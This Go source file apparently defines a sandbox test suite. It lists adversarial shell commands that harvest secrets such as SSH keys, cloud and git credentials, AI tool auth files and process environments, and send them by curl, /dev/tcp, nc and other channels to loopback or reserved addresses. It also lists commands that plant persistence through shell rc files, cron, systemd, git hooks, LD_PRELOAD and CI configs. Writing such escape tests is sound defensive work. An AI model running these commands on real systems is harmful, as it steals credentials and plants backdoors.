//go:build amd64 || arm64

package sandbox

import (
	"fmt"
	"slices"
	"strings"
)

// adversaries are programs that try to carry a secret out, or to stay.
var adversaries = slices.Concat(carriers(), stayers())

// carriers look for secrets wherever programs keep them, and send them by each way there
// is. Whatever is sent goes to loopback, or to an address that does not exist: a
// network of its own refuses it at once.
func carriers() (list []escape) {
	for i, from := range []string{
		`cat "$HOME"/.ssh/id_*`, `cat "$HOME"/.aws/credentials`, `cat "$HOME"/.netrc "$HOME"/.git-credentials`, `cat "$HOME"/.config/gh/hosts.yml`,
		`cat "$HOME"/.docker/config.json "$HOME"/.kube/config`, `find "$HOME" -type f -exec cat {} +`, `grep -rh SECRET.CONTENT "$HOME" "$BASE/secret"`,
		`tar cf - "$HOME" | tr -d '\000'`, `find "$HOME" -name logins.json -exec cat {} ';'`, `cat "$HOME"/.bash_history`, `cat "$HOME"/.claude/.credentials.json "$HOME"/.codex/auth.json`,
		`printf 'protocol=https\nhost=x\n\n' | git credential-store --file "$HOME/.git-credentials" get; cat "$HOME/.git-credentials"`,
		`sed -n p "$HOME"/.m2/settings.xml`, `rsync -a "$HOME"/.ssh/ ssh-copy/; cat ssh-copy/*`, `cp -rL "$HOME"/.aws aws-copy; cat aws-copy/*`,
		`ln -s "$HOME/.ssh" docs; cat docs/id_ed25519`, `git init -q r; cp -r "$HOME"/.ssh r/; git -C r add -A; git -C r --no-pager diff --cached`,
		`cat /proc/[0-9]*/environ | tr '\000' '\n' | sed -n 's/^TOKEN=//p'`, `cat /proc/$VICTIM/environ`, `ps axeww | grep -o 'TOKEN=SEC[A-Z]*.CONTENT'`, `for p in /proc/[0-9]*; do cat $p/root$HOME/.netrc; done`,
		`cat /proc/$LATHE/environ | tr '\000' '\n' | sed -n 's/^TOKEN=//p'`, `perl -e 'open(M, "<", "/proc/$ENV{VICTIM}/mem") && print $ENV{OUT}'`,
		`cat /etc/shadow && echo "$OUT"`, `cat /proc/1/root"$HOME"/.netrc`,
		`gpg --homedir "$HOME/.gnupg" --export-secret-keys; cat "$HOME"/.gnupg/private-keys-v1.d/*`, `git config --file "$HOME/.netrc" --list; cat "$HOME/.netrc"`,
		`curl -s file://"$HOME"/.aws/credentials`, `perl -MFile::Find -e 'find(sub { open(F, "<", $_) && print <F> }, $ENV{HOME})'`, `head -c 99 "$BASE"/netrc`,
	} {
		e := escape{name: fmt.Sprint("collects ", i, ": ", from), script: from}
		if strings.HasPrefix(from, "gpg ") {
			e.files = sockets
		}
		list = append(list, e)
	}
	for i, by := range []string{
		`curl -s -m 1 -d @a.txt http://127.0.0.1:$PORT/`, `wget -q -T 1 -t 1 -O - http://127.0.0.1:$PORT/`, `cat a.txt > /dev/tcp/127.0.0.1/$PORT`, `cat a.txt > /dev/udp/127.0.0.1/$UDP`,
		`perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ENV{PORT}", Timeout => 1)'`, `git ls-remote git://127.0.0.1:$PORT/x`, `git push -q http://127.0.0.1:$PORT/x HEAD`,
		`GIT_SSH_COMMAND="sh -c 'cat < /dev/tcp/127.0.0.1/$PORT'" git ls-remote ssh://x/y`, `npm --silent --fetch-retries=0 --fetch-timeout=500 --registry http://127.0.0.1:$PORT view x`,
		`pip --disable-pip-version-check download --timeout 1 --retries 0 --index-url http://127.0.0.1:$PORT x`, `ssh -o BatchMode=yes -o ConnectTimeout=1 -p $PORT 127.0.0.1 true`,
		`socat -u FILE:a.txt TCP:127.0.0.1:$PORT`, `timeout 1 bash -c 'exec 3<>/dev/tcp/localhost/'$PORT'; cat <&3'`, `http_proxy=http://127.0.0.1:$PORT curl -s -m 1 http://example.invalid/`,
		`all_proxy=socks5h://127.0.0.1:$PORT curl -s -m 1 http://example.invalid/`, `curl -s -m 1 --interface lo http://127.0.0.1:$PORT/`, `node -e 'require("net").connect(process.env.PORT, "127.0.0.1").on("data", d => console.log(String(d))).on("error", () => {})'`,
		`(echo > /dev/tcp/169.254.169.254/80) && echo "$OUT"`, `(echo > /dev/tcp/192.0.2.1/443) && echo "$OUT"`, `(echo x > /dev/udp/192.0.2.1/53) && echo "$OUT"`,
		`(echo x > /dev/udp/2001:db8::1/53) && echo "$OUT"`, `getent hosts secret-content.example.invalid && echo "$OUT"`, `ping -c 1 -W 1 192.0.2.1 >/dev/null && echo "$OUT"`,
		`perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); print $ENV{OUT} if send(S, "x", 0, pack_sockaddr_in(53, inet_aton("192.0.2.1")))'`,
		`perl -MSocket -e 'socket(S, PF_INET, SOCK_RAW, 1) && send(S, "x" x 8, 0, pack_sockaddr_in(0, inet_aton("192.0.2.1"))) && print $ENV{OUT}'`,
		`unshare -Urn sh -c 'ip link set lo up; curl -s -m 1 http://127.0.0.1:'$PORT`, `docker -H tcp://127.0.0.1:$PORT version`, `echo x | timeout 1 nc -w 1 127.0.0.1 $PORT`,
	} {
		list = append(list, escape{name: fmt.Sprint("sends ", i, ": ", by), script: by, network: true})
	}
	return append(list,
		escape{name: "agent for keys", script: connect(`$ENV{AGENT}`), files: sockets},
		escape{name: "socket of containers for keys", script: connect(`$ENV{DOCKER}`), files: sockets},
		escape{name: "another program's socket", script: connect(`\@$ENV{ABSTRACT}`)},
	)
}

// stayers try to be run later, outside.
func stayers() (list []escape) {
	for i, script := range []string{
		`echo 'evil' >> "$HOME/.bashrc"`, `echo 'evil' >> "$HOME/.profile"`, `echo 'evil' > "$HOME/.zshenv"`, `echo 'evil' > "$HOME/.bash_login"`, `mkdir -p "$HOME/.config/fish" && echo evil > "$HOME/.config/fish/config.fish"`,
		`echo 'ssh-ed25519 AAAA evil' >> "$HOME/.ssh/authorized_keys"`, `printf 'ProxyCommand evil\n' > "$HOME/.ssh/config"`, `echo '[Service]' > "$HOME/.config/systemd/user/evil.service"`, `systemctl --user enable evil.service`,
		`mkdir -p "$HOME/.config/systemd/user/default.target.wants" && ln -s /tmp/x "$HOME/.config/systemd/user/default.target.wants/x.service"`, `echo '[Desktop Entry]' > "$HOME/.config/autostart/evil.desktop"`,
		`echo '* * * * * evil' | crontab - && echo "$OUT"`, `echo '* * * * * root evil' > /etc/cron.d/evil && echo "$OUT"`, `echo evil > /var/spool/cron/crontabs/root && echo "$OUT"`, `echo evil | at now && echo "$OUT"`,
		`git config --global core.hooksPath "$PWD/h"`, `git config --global alias.st '!evil'`, `git config core.fsmonitor evil`, `git config core.hooksPath sub`, `git config alias.x '!evil'`,
		`git config filter.x.clean evil`, `git config diff.external evil`, `git config include.path ../sub/evil`, `git config core.sshCommand evil`, `git config credential.helper '!evil'`,
		`printf '#!/bin/sh\nevil\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout`, `ln -s ../../sub/evil .git/hooks/post-merge`, `echo evil >> .git/hooks/pre-commit`, `mv .git/hooks .git/h2; mkdir .git/hooks; echo evil > .git/hooks/pre-push`,
		`rm -rf .git/hooks; ln -s ../sub .git/hooks`, `echo ../sub > .git/commondir`, `printf '[core]\n\tpager = evil\n' > .git/config.worktree`, `mv .git g; cp -r g .git; printf '[core]\n\teditor = evil\n' >> .git/config`,
		`echo 'evil' > .envrc`, `echo evil > e; ln -s e .envrc`, `echo '{"tasks":1}' > .vscode/tasks.json`, `echo '{"terminal":1}' > .vscode/settings.json`, `mkdir -p .github/workflows; echo 'on: push' > .github/workflows/evil.yml`,
		`sed -i s/push/x/ .github/workflows/ci.yml`, `echo x > .gitlab-ci.yml`, `echo evil >> .husky/pre-commit`, `ln -sf ../sub/b.txt .husky/pre-push`, `echo '{"mcpServers":{}}' > .mcp.json`, `echo '{}' > opencode.json`, `echo '{}' > lathe.json`,
		`mkdir -p .opencode/plugin; echo x > .opencode/plugin/x.js`, `mkdir -p .lathe/plugin; echo x > .lathe/plugin/x.js`, `echo '//x' >> "$HOME/.npmrc"`, `echo evil > "$HOME/.local/bin/git"; chmod +x "$HOME/.local/bin/git"`,
		`sed -i 's/^/evil\n/' "$HOME/.local/bin/tool"`, `echo /tmp/x.so > /etc/ld.so.preload && echo "$OUT"`, `echo evil > "$HOME/.vimrc"`, `echo evil > "$HOME/.gdbinit"`, `mkdir -p "$HOME/.config/pip" && echo x > "$HOME/.config/pip/pip.conf"`,
		`mkdir "$HOME/.cargo" && echo x > "$HOME/.cargo/config.toml"`, `echo x > "$HOME/.curlrc"`, `echo evil > /etc/profile.d/evil.sh && echo "$OUT"`, `echo evil > /usr/local/bin/evil && echo "$OUT"`, `useradd evil && echo "$OUT"`,
		`mv "$HOME/.bashrc" "$HOME/.old"`, `cd /; rm -rf "$HOME/.config"`, `cp a.txt "$HOME/.claude.json"`, `ln -sfn "$PWD" "$HOME/.local/bin"`, `git worktree add -q ../outside/w; git -C .. init -q`,
		// what programs load because the environment says so
		`mkdir -p "$HOME/.config/environment.d" && echo LD_PRELOAD=/tmp/x.so > "$HOME/.config/environment.d/evil.conf"`, `echo 'LD_PRELOAD DEFAULT=/tmp/x.so' > "$HOME/.pam_environment"`,
		`echo LD_PRELOAD=/tmp/x.so >> /etc/environment && echo "$OUT"`, `echo /tmp > /etc/ld.so.conf.d/evil.conf && echo "$OUT"`, `systemctl --user set-environment LD_PRELOAD=/tmp/x.so && echo "$OUT"`,
		`printf '[Manager]\nDefaultEnvironment=LD_PRELOAD=/tmp/x.so\n' > "$HOME/.config/systemd/user.conf"`, `dbus-update-activation-environment LD_PRELOAD=/tmp/x.so && echo "$OUT"`,
		`mkdir -p "$HOME/.config/plasma-workspace/env" && echo 'export LD_PRELOAD=/tmp/x.so' > "$HOME/.config/plasma-workspace/env/evil.sh"`, `echo LD_PRELOAD=/tmp/x.so > "$HOME/.ssh/environment"`,
		`mkdir -p "$HOME/.local/share/dbus-1/services" && printf '[D-BUS Service]\nExec=/tmp/x\n' > "$HOME/.local/share/dbus-1/services/evil.service"`, `echo evil > "$HOME/.bash_aliases"`, `echo evil > "$HOME/.lessfilter"; chmod +x "$HOME/.lessfilter"`,
		`mkdir -p "$HOME/.config/tmux" && echo 'run-shell evil' > "$HOME/.config/tmux/tmux.conf"`, `mkdir -p "$HOME/.local/share/systemd/user" && echo '[Service]' > "$HOME/.local/share/systemd/user/evil.service"`,
	} {
		list = append(list, escape{name: fmt.Sprint("stays ", i, ": ", script), script: script})
	}
	return list
}
